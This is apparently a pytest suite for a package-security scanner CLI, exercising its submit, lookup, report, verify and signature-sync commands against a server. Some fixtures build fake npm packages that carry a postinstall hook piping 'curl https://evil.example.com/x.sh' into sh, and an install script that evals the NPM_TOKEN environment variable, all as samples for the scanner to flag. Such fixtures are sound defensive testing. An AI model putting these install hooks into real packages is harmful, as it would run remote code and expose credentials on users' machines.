"""The CLI's API commands against a live server: --submit, lookup, publisher, report, verify, signature sync."""

import hashlib
import json

import pytest
from django.db import transaction

from intel.models import Report
from intel.services import publisher_get_or_create, threat_record_from_report
from scans.models import Scan
from signatures.models import Signature
from signatures.services import signature_create, signature_withdraw
from tests.cli.conftest import write_tree
from tests.conftest import make_user
from tests.fakes.servers import FakeNpm, make_targz

pytestmark = pytest.mark.django_db(transaction=True)

MARKER_RULE = dict(phase=2, name="sigil_cli_test_marker", description="test marker string",
                   pattern=r"SIGIL_CLI_TEST_MARKER_[0-9]+", severity="high", weight=12, ecosystem="generic")


def _submit(sigil, path):
    proc = sigil("scan", path, "--submit")
    assert "Submitted as scn_" in proc.stdout, proc.stderr
    qid = next(line.split()[-1] for line in proc.stdout.splitlines() if line.startswith("quarantine id"))
    return proc, qid


# ------------------------------------------------------------------------------------ --submit

def test_submit_stores_the_scan_metadata_and_prints_what_the_server_knows(sigil, alice, evil_package):
    sigil.login("alice@example.com")

    proc, qid = _submit(sigil, evil_package)

    assert proc.returncode == 2
    scan = Scan.objects.get(user=alice, quarantine_id=qid)
    assert f"Submitted as {scan.public_id}" in proc.stdout
    assert scan.source_type == "local"
    assert scan.verdict in ("high", "critical")
    assert sum(p["score"] for p in scan.phases) == scan.score
    assert "Known threats: none" in proc.stdout
    assert "curl https://evil.example.com" not in json.dumps(scan.phases)  # findings, never source lines
    meta = json.loads((sigil.home / "quarantine" / qid / "meta.json").read_text())
    assert meta["scan_id"] == scan.public_id


def test_submit_with_json_keeps_stdout_the_scan_body(sigil, alice, clean_project):
    sigil.login("alice@example.com")

    proc, body = sigil.json("scan", clean_project, "--json", "--submit")

    assert proc.returncode == 0
    assert body["verdict"] == "clean"
    assert "Submitted as scn_" in proc.stderr
    assert Scan.objects.filter(user=alice, quarantine_id=body["quarantine_id"]).exists()


def test_submit_without_login_exits_3_and_sends_nothing(sigil, alice, clean_project):
    proc = sigil("scan", clean_project, "--submit")

    assert proc.returncode == 3
    assert "not logged in" in proc.stderr
    assert Scan.objects.count() == 0


# ------------------------------------------------------------------------- lookup and threats

def test_lookup_of_an_unknown_hash_says_so_and_exits_0(sigil, alice):
    sigil.login("alice@example.com")

    proc = sigil("lookup", "A" * 64)

    assert proc.returncode == 0, proc.stderr
    assert f"sha256:{'a' * 64}: no known threat" in proc.stdout


def test_lookup_shows_the_servers_detail_for_a_bad_hash(sigil, alice):
    sigil.login("alice@example.com")

    proc = sigil("lookup", "sha256:not-a-hash")

    assert proc.returncode == 3
    assert "HTTP 400 BAD_REQUEST" in proc.stderr


def test_a_reported_and_confirmed_package_becomes_a_known_threat_for_lookup_and_submit(sigil, alice, evil_package):
    sigil.login("alice@example.com")
    _, qid = _submit(sigil, evil_package)
    scan = Scan.objects.get(quarantine_id=qid)
    # A local scan cannot be reported; report by the hash with the scan attached.
    proc = sigil("report", "--npm", "evil-pkg@1.0.0", "--hash", scan.source_hash, "--scan-id", scan.public_id,
                 "--category", "install_hook_abuse", "--severity", "critical",
                 "--description", "postinstall pipes curl into sh", "--evidence", "postinstall in package.json:5")
    assert proc.returncode == 0, proc.stderr
    report = Report.objects.get(user=alice)
    with transaction.atomic():
        threat_record_from_report(report=report)

    lookup = sigil("lookup", scan.source_hash)
    again, _ = _submit(sigil, evil_package)

    assert lookup.returncode == 2
    assert "KNOWN THREAT (critical)" in lookup.stdout
    assert "install_hook_abuse" in lookup.stdout
    assert "Known threats: 1" in again.stdout


def test_lookup_hashes_a_file_given_instead_of_a_hash(sigil, alice, tmp_path):
    sigil.login("alice@example.com")
    archive = tmp_path / "x.tgz"
    archive.write_bytes(b"not really an archive")

    proc, body = sigil.json("lookup", archive, "--json")

    assert proc.returncode == 0
    assert body["hash"] == "sha256:" + hashlib.sha256(b"not really an archive").hexdigest()
    assert body["known_threat"] is False


# ---------------------------------------------------------------------------------- publisher

def test_publisher_shows_reputation(sigil, alice):
    publisher_get_or_create(ecosystem="npm", name="tidy-dev")
    sigil.login("alice@example.com")

    proc = sigil("publisher", "tidy-dev", "--ecosystem", "npm")

    assert proc.returncode == 0, proc.stderr
    assert proc.stdout.startswith("tidy-dev (npm, pub_")
    assert "reputation" in proc.stdout


def test_an_unknown_publisher_shows_the_servers_detail_and_exits_3(sigil, alice):
    sigil.login("alice@example.com")

    proc = sigil("publisher", "nobody-at-all", "--ecosystem", "npm")

    assert proc.returncode == 3
    assert "Publisher not found" in proc.stderr
    assert "HTTP 404 NOT_FOUND" in proc.stderr


# ------------------------------------------------------------------------------------- report

def test_report_from_a_quarantined_scan_sends_its_source_hash_evidence_and_scan(sigil, alice):
    npm_pkg = make_targz({"package.json": '{"name": "evil-pkg", "version": "1.0.0", "scripts": '
                                          '{"postinstall": "curl https://evil.example.com/x.sh | sh"}}'}, root="package")
    with FakeNpm({"evil-pkg": {"versions": {"1.0.0": npm_pkg}, "latest": "1.0.0"}}) as registry:
        sigil.env_extra["SIGIL_NPM_REGISTRY_URL"] = registry.url
        sigil.login("alice@example.com")
        proc = sigil("scan", "--npm", "evil-pkg@1.0.0", "--submit")
    qid = next(line.split()[-1] for line in proc.stdout.splitlines() if line.startswith("quarantine id"))
    scan = Scan.objects.get(quarantine_id=qid)

    proc = sigil("report", "--quarantine", qid, "--category", "install_hook_abuse", "--severity", "critical",
                 "--description", "postinstall downloads and runs a script")

    assert proc.returncode == 0, proc.stderr
    report = Report.objects.get(user=alice)
    assert proc.stdout.startswith(f"Report {report.public_id} submitted")
    assert report.source_type == "npm"
    assert report.source_ref == "evil-pkg@1.0.0"
    assert report.source_hash == scan.source_hash
    assert report.scan_id == scan.pk
    assert any("package.json" in e for e in report.evidence)


def test_report_with_a_bad_value_shows_the_servers_detail(sigil, alice):
    sigil.login("alice@example.com")

    proc = sigil("report", "--url", "not a url at all", "--category", "other", "--severity", "low",
                 "--description", "x" * 20000)

    assert proc.returncode == 3
    assert proc.stderr.strip() == ("sigil: error: description: Ensure this field has no more than 10000 characters. "
                                   "(HTTP 400 BAD_REQUEST)")
    assert Report.objects.count() == 0


def test_report_refuses_an_unknown_category_before_sending(sigil, alice):
    proc = sigil("report", "--npm", "x", "--category", "spam", "--severity", "low", "--description", "d")

    assert proc.returncode == 3
    assert "invalid choice" in proc.stderr


# ------------------------------------------------------------------------------------- verify

def test_verify_needs_a_paid_tier_and_shows_why(sigil, db):
    make_user("free@example.com")
    sigil.login("free@example.com")

    proc = sigil("verify", "--npm", "leftpad-ok@1.0.0")

    assert proc.returncode == 3
    assert "Verification requires the Pro or Team tier." in proc.stderr
    assert "HTTP 403 FORBIDDEN" in proc.stderr


def test_verify_reports_verified_and_failed_packages(sigil, alice, settings):
    clean = make_targz({"package.json": '{"name": "leftpad-ok", "version": "1.0.0"}',
                        "index.js": "module.exports = (s, n) => String(s).padStart(n);\n"}, root="package")
    evil = make_targz({"package.json": '{"name": "evil-pkg", "version": "6.6.6", "scripts": '
                                       '{"postinstall": "curl https://evil.example.com/x.sh | sh"}}',
                       "install.js": "eval(Buffer.from(process.env.NPM_TOKEN).toString('base64'))\n"}, root="package")
    packages = {"leftpad-ok": {"versions": {"1.0.0": clean}, "latest": "1.0.0"},
                "evil-pkg": {"versions": {"6.6.6": evil}, "latest": "6.6.6"}}
    with FakeNpm(packages) as registry:
        settings.NPM_REGISTRY_URL = registry.url
        settings.SIGIL_OUTBOUND_ALLOWLIST = [registry.hostport]
        sigil.login("alice@example.com")
        good = sigil("verify", "--npm", "leftpad-ok@1.0.0")
        bad = sigil("verify", "--npm", "evil-pkg@6.6.6")

    assert good.returncode == 0, good.stderr
    assert "VERIFIED" in good.stdout and "leftpad-ok 1.0.0" in good.stdout
    assert bad.returncode == 2, bad.stderr
    assert "FAILED" in bad.stdout


# ---------------------------------------------------------------------------- signature sync

def test_scans_use_synced_signatures_and_drop_withdrawn_ones_on_the_next_delta(sigil, alice, tmp_path):
    signature = signature_create(**MARKER_RULE)
    project = write_tree(tmp_path / "marked", {"app.py": "TOKEN = 'SIGIL_CLI_TEST_MARKER_42'\n"})
    sigil.login("alice@example.com")

    first = sigil("scan", project, "--sarif")
    cache = json.loads((sigil.home / "signatures.json").read_text())
    signature_withdraw(signature=Signature.objects.get(pk=signature.pk), reason="false positive")
    second = sigil("scan", project, "--sarif")
    cache_after = json.loads((sigil.home / "signatures.json").read_text())

    first_ids = {r["ruleId"] for r in json.loads(first.stdout)["runs"][0]["results"]}
    second_ids = {r["ruleId"] for r in json.loads(second.stdout)["runs"][0]["results"]}
    assert signature.public_id in first_ids
    assert signature.public_id not in second_ids
    assert [s["id"] for s in cache["signatures"]] == [signature.public_id]
    assert cache["next_sync_token"]
    assert cache_after["signatures"] == []
    assert cache_after["next_sync_token"] != cache["next_sync_token"]


@pytest.mark.parametrize("weight, verdict, exit_code", [(5, "low", 0), (15, "medium", 1), (30, "high", 2)])
def test_the_exit_code_follows_the_verdict(sigil, alice, tmp_path, weight, verdict, exit_code):
    signature_create(**dict(MARKER_RULE, weight=weight, severity="medium"))
    project = write_tree(tmp_path / "marked", {"app.py": "TOKEN = 'SIGIL_CLI_TEST_MARKER_42'\n"})
    sigil.login("alice@example.com")

    proc, body = sigil.json("scan", project, "--json")

    assert (body["score"], body["verdict"]) == (weight, verdict)
    assert proc.returncode == exit_code


def test_the_report_says_where_signatures_came_from(sigil, alice, clean_project):
    signature_create(**MARKER_RULE)
    sigil.login("alice@example.com")

    proc = sigil("scan", clean_project)

    assert proc.returncode == 0
    assert f"1 synced from {sigil.api_url}" in proc.stdout
